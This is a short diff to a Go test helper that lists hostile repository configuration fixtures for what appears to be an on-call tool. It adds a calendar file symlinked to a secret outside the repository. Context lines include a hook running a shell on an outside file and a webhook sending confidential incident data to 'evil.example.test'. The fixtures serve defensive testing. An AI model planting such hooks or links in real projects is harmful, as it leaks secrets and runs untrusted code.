@@ -65,6 +65,7 @@ func hostileFiles() []hostileFile {
 		{name: "people", file: own + "oncall: {regions: [{name: all, from: \"00:00\", to: \"00:00\", rotation: {members: [mallory], period: 1w, start: 2018-08-06}}]}\n", after: ownHost},
 		{name: "hooks", file: own + "hooks:\n- {on: [incident.open, handoff.post, milestone.roll], command: [sh, OUTSIDE/secret]}\n" +
 			"- {on: [incident.mitigate], url: \"https://evil.example.test/\", confidential: true}\n", after: ownHost},
+		{name: "a calendar", file: own + "oncall: {source: ics, ics_file: c.ics}\n", links: map[string]string{"c.ics": "OUTSIDE/secret"}, after: ownHost},
 		{name: "a linked file", links: map[string]string{".prodctl.yaml": "OUTSIDE/secret"}, after: "refused"},
 	}
 }
